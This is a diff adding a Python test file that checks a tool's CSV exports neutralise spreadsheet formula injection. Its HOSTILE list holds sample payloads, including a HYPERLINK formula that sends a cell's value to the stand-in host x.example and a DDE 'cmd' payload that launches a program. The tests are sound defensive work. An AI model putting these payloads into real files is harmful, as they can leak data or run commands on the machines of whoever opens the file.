@@ -1,0 +1,55 @@
+"""CSV injection: every CSV the product writes neutralises cells a spreadsheet would run."""
+
+from __future__ import annotations
+
+import csv
+import shutil
+from pathlib import Path
+
+import pandas as pd
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from typer.testing import CliRunner
+
+from notereview._spreadsheet import FORMULA_STARTS, neutralise_formulas, restore_formulas
+from notereview.cli import app
+
+HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"open")', "+cmd|' /C calc'!A0", "@SUM(1+1)",
+           "-2+3", "\t=1+1", "\r=1+1", "'=already escaped"]  # fmt: skip
+
+
+def test_a_formula_cell_gets_an_apostrophe_and_numbers_stay_numbers():
+    frame = pd.DataFrame({"team": [*HOSTILE, "North", None], "n": list(range(-4, 5))})
+    out = neutralise_formulas(frame)
+    assert all(v.startswith("'") for v in out["team"][: len(HOSTILE)])
+    assert out["team"].iloc[-2] == "North" and pd.isna(out["team"].iloc[-1])
+    assert list(out["n"]) == list(range(-4, 5))  # -4 is a number, not a formula
+    assert list(frame["team"][: len(HOSTILE)]) == HOSTILE  # the input is not changed
+
+
+@given(st.lists(st.one_of(st.none(), st.text(max_size=12)), min_size=1, max_size=20))
+def test_what_is_written_is_what_is_read_back(values):
+    frame = pd.DataFrame({"text": values}, dtype=object)
+    back = restore_formulas(neutralise_formulas(frame))
+    assert back["text"].tolist() == frame["text"].tolist()
+
+
+@pytest.mark.parametrize("workers", ["1", "2"])
+def test_no_csv_the_run_writes_starts_a_formula(synth_extract: Path, tmp_path: Path, workers):
+    extract = tmp_path / "extract"
+    shutil.copytree(synth_extract, extract)
+    children = pd.read_csv(extract / "children.csv", dtype=str, keep_default_na=False)
+    children.loc[0, "team"] = HOSTILE[0]
+    children.loc[1, "worker_id"] = HOSTILE[1]
+    children.loc[2, "team"] = HOSTILE[2]
+    children.to_csv(extract / "children.csv", index=False)
+    out = tmp_path / "out"
+    args = ["score", str(extract), "--out", str(out), "--format", "csv", "--workers", workers]
+    result = CliRunner().invoke(app, args)
+    assert result.exit_code == 0, result.output
+    files = sorted(out.glob("*.csv"))
+    assert {f.name for f in files} >= {"cases.csv", "criteria.csv", "visits.csv"}
+    cells = [c for f in files for row in csv.reader(f.open(encoding="utf-8")) for c in row]
+    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
+    assert "'" + HOSTILE[0] in cells and "'" + HOSTILE[1] in cells  # kept, neutralised
